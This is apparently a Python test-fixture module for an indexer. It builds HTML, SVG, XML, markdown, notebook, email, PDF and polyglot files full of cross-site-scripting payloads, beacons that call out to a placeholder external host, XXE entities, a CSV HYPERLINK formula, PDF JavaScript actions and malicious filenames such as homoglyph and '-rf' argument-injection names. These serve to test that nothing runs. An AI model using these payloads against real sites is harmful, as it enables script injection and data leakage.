"""Files whose authors want a person's browser to do something: run their script, or ask their server for something.

`ACT` stands for a script that leaves three traces, `OUT` for the address of somebody else. Those in `LIVE` do harm in a
browser that opens them as they are, which a test shows: what protects nobody from anything is not in the set.
"""

import base64
import json
from email.message import EmailMessage

from tests.indexer import files

ACT = "alert(1);new Image().src='/pwned?'+Math.random();document.title='pwned'"

_HEAD = """<!doctype html><html><head><base href="OUT/">
<meta http-equiv="refresh" content="1;url=OUT/refresh">
<link rel="preconnect" href="OUT"><link rel="dns-prefetch" href="OUT"><link rel="prefetch" href="OUT/prefetch">
<link rel="preload" as="image" href="OUT/preload"><link rel="modulepreload" href="OUT/module.js">
<link rel="stylesheet" href="OUT/sheet.css"><link rel="icon" href="OUT/icon.png"><link rel="manifest" href="OUT/m.json">
</head><body background="OUT/background"><a href="relative" ping="OUT/ping">x</a></body></html>"""

_BODY = """<script>ACT</script><script src="pwned.js"></script><script src="data:text/javascript,ACT"></script>
<img src="x" onerror="ACT"><body onload="ACT"><video poster="OUT/poster"><source src="OUT/film" onerror="ACT"></video>
<details open ontoggle="ACT"><summary>x</summary>
</details><marquee onstart="ACT">x</marquee>
<a href="javascript:ACT" id="needing">x</a><a href="data:text/html,<script>ACT</script>" id="live">x</a>
<img src="OUT/picture" srcset="OUT/wide 2x"><picture><source srcset="OUT/source"><img></picture>
<input type="image" src="OUT/i">
<svg onload="ACT"><script>ACT</script><use href="OUT/use.svg#x"/><image href="OUT/image"/></svg>
<noscript><p title="</noscript><img src=x onerror=ACT>"></noscript>
<template><img src="x" onerror="ACT">
</template><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ACT&gt;"></math>
<math href="javascript:ACT"><mi xlink:href="javascript:ACT">x</mi><annotation-xml encoding="text/html"><img src="OUT/m">
</annotation-xml></math><svg></p><style><a id="</style><img src=x onerror=ACT>"></svg>"""

_FRAMES = """<iframe src="javascript:ACT"></iframe><iframe srcdoc="<script>ACT</script><img src='OUT/srcdoc'>"></iframe>
<iframe src="OUT/frame"></iframe><object data="OUT/object"></object><embed src="OUT/embed">
<frameset><frame src="OUT/f">
</frameset><object data="data:text/html,<script>ACT</script>"></object>
<iframe src="data:text/html,<script>ACT</script>"></iframe>
<iframe src="/files/page.html" onload="ACT"></iframe><portal src="OUT/portal"></portal>"""

_FORMS = """<form action="OUT/form" id="f"><input name="x" autofocus onfocus="ACT">
<button formaction="javascript:ACT">x</button></form>
<form action="/attention" method="post"><input name="token"></form>
<input form="f" type="submit" formaction="OUT/x">
<input autofocus onfocus="ACT"><select autofocus onfocus="ACT"></select>
<isindex action="javascript:ACT" type="image">"""

_STYLES = """<style>@import url("OUT/import.css"); @font-face { font-family: x; src: url("OUT/font"); }
body { background: url("OUT/body"); font-family: x; } input[value^="a"] { background: url("OUT/a"); }
p::before { content: url("OUT/before"); } li { list-style-image: url("OUT/list"); cursor: url("OUT/cursor"), auto; }
</style><p style="background: image-set('OUT/set' 1x)">x</p><input value="abc" style="border-image: url(OUT/border)">
<ul><li style="mask: url(OUT/mask)">x</li></ul>
<div style="position: fixed; inset: 0; filter: url(OUT/filter#x)">x</div>"""

_SVG = """<?xml version="1.0"?><?xml-stylesheet href="OUT/sheet.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="ACT" width="90" height="90">
<script>ACT</script><script href="OUT/script.js"/><image href="OUT/image"/><use xlink:href="OUT/use.svg#x"/>
<style>@import url("OUT/import.css"); rect { fill: url("OUT/fill#x"); }</style><rect width="9" height="9"/>
<a href="javascript:ACT"><text y="20">x</text></a><set attributeName="onmouseover" to="ACT"/>
<animate attributeName="href" values="javascript:ACT"/><foreignObject width="9" height="9">
<body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="ACT"/><iframe src="OUT/frame"/>
<link rel="preconnect" href="OUT"/></body></foreignObject></svg>"""

_XML = """<?xml version="1.0"?><?xml-stylesheet type="text/css" href="OUT/sheet.css"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "OUT/entity"><!ENTITY % p SYSTEM "OUT/parameter"> %p;]>
<x xmlns:h="http://www.w3.org/1999/xhtml">&e;<h:script>ACT</h:script><h:img src="OUT/img" onerror="ACT"/></x>"""

_XHTML = """<html xmlns="http://www.w3.org/1999/xhtml"><head><link rel="stylesheet" href="OUT/sheet.css"/></head>
<body><script>ACT</script><img src="x" onerror="ACT"/><iframe src="OUT/frame"></iframe></body></html>"""

_MARKDOWN = """---
title: "<script>ACT</script>"
---
# <img src=x onerror="ACT"> {#needing}

<script>ACT</script> <style>@import url(OUT/import.css);</style> <iframe src="OUT/frame"></iframe>

[x](javascript:ACT) [y](data:text/html,<script>ACT</script>)
[z](//evil.example) <javascript:ACT> [a]( java&#10;script:ACT)

![x](OUT/picture.png) ![y](page.html) ![z](image.svg) ![u](//127.0.0.2:1/x.png)
![v](data:image/svg+xml,<svg/onload=ACT>)

[ref]: javascript:ACT
[ref] ![ref]

```html" onload="ACT
<script>ACT</script>
```

| <script>ACT</script> |
|--|
| <img src=x onerror="ACT"> |

- [ ] <input autofocus onfocus="ACT">
"""


def _notebook() -> str:
    markup = {"text/html": [_BODY, _FRAMES, _FORMS, _HEAD], "text/plain": "x"}
    outputs = [
        {"output_type": "display_data", "data": markup},
        {"output_type": "display_data", "data": {"text/html": _STYLES}},
        {"output_type": "display_data", "data": {"image/svg+xml": _SVG}},
        {"output_type": "display_data", "data": {"image/png": base64.b64encode(_BODY.encode()).decode()}},
        {"output_type": "display_data", "data": {"text/javascript": "ACT", "application/javascript": "ACT"}},
        {"output_type": "error", "ename": "<script>ACT</script>", "traceback": ["\x1b]8;;javascript:ACT\x07<b>x"]},
    ]
    cells = [
        {"cell_type": "markdown", "source": _MARKDOWN},
        {"cell_type": "code", "source": "</code><script>ACT</script>", "outputs": outputs, "execution_count": "<b>"},
        {"cell_type": "<script>", "source": "<script>ACT</script>"},
    ]
    return json.dumps({"cells": cells, "metadata": {"language_info": {"name": '"><script>ACT</script>'}}})


def _mail() -> bytes:
    mail = EmailMessage()
    mail["Subject"], mail["From"], mail["To"] = "<script>ACT</script>", "a@example.com", "b@example.com"
    mail.set_content("<script>ACT</script>")
    mail.add_alternative(_BODY + _HEAD, subtype="html")
    mail.add_attachment(b"x", maintype="text", subtype="html", filename="<img src=x onerror=ACT>.html")
    return mail.as_bytes()


def _pdf() -> bytes:
    body = files.pdf([["<script>ACT</script>"], ["x"]])
    actions = (
        b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC << /S /URI /URI (OUT) >> >>"
    )
    return body.replace(b"/Type /Catalog", actions)


LIVE: dict[str, str] = {
    "head.html": _HEAD,
    "body.html": _BODY,
    "frames.html": _FRAMES,
    "forms.html": _FORMS,
    "styles.html": _STYLES,
    "image.svg": _SVG,
    "feed.xml": _XML,
    "page.xhtml": _XHTML,
    "noname": "<!doctype html><script>ACT</script>",
}
QUIET: dict[str, str | bytes] = {
    "prose.md": _MARKDOWN,
    "book.ipynb": _notebook(),
    "table.csv": 'a,<script>ACT</script>\n"<img src=x onerror=""ACT"">",=HYPERLINK("OUT")\n' + _BODY,
    "data.json": json.dumps({"</code></pre><script>ACT</script>": _BODY, "a": {"<b>": [_SVG]}}),
    "lines.jsonl": json.dumps({"<script>ACT</script>": _BODY}) + "\n" + _BODY.replace("\n", " ") + "\n",
    "letter.eml": _mail(),
    "paper.pdf": _pdf(),
    "code.py": f'x = "</code><script>ACT</script>"\n"""{_BODY}"""\n',
    "pwned.js": "ACT",
    "song.mp3": _BODY,
    "photo.png": _BODY,
    "polyglot.gif": "GIF89a/*" + _BODY + "*/=1;ACT",
}


def contents(out: str) -> dict[str, bytes]:
    """Return all of them by name, the pages of HTML as one.

    Args:
        out: The address of somebody else.
    """
    pages = [content for name, content in LIVE.items() if name.endswith(".html")]
    others = {name: content for name, content in LIVE.items() if not name.endswith(".html")}
    return {name: acting(content, out) for name, content in {"page.html": "\n".join(pages), **others, **QUIET}.items()}


def acting(content: str | bytes, out: str) -> bytes:
    """Return a content with its script and its address in it."""
    raw = content.encode() if isinstance(content, str) else content
    return raw.replace(b"ACT", ACT.encode()).replace(b"OUT", out.encode())


NAMES = (
    "<img src=x onerror=alert(1)>.md",
    '"onmouseover="alert(1)" x=".html',
    "'-alert(1)-'.svg",
    "javascript&colon;alert(1)",
    "&lt;script&gt;alert(1)&lt;",
    "{{7*7}}{% raw %}.md",
    "%3Cscript%3Ealert(1)%3C.md",
    "a#b?c=d&e;f.md",
    "pаypal.md",  # noqa: RUF001 - its second letter is Cyrillic: that is the attack
    "x" * 251 + ".md",
    "-rf --no-preserve.md",
)
"""Names that want to be read as markup, as code, as another address or another name; one is as long as it may be."""
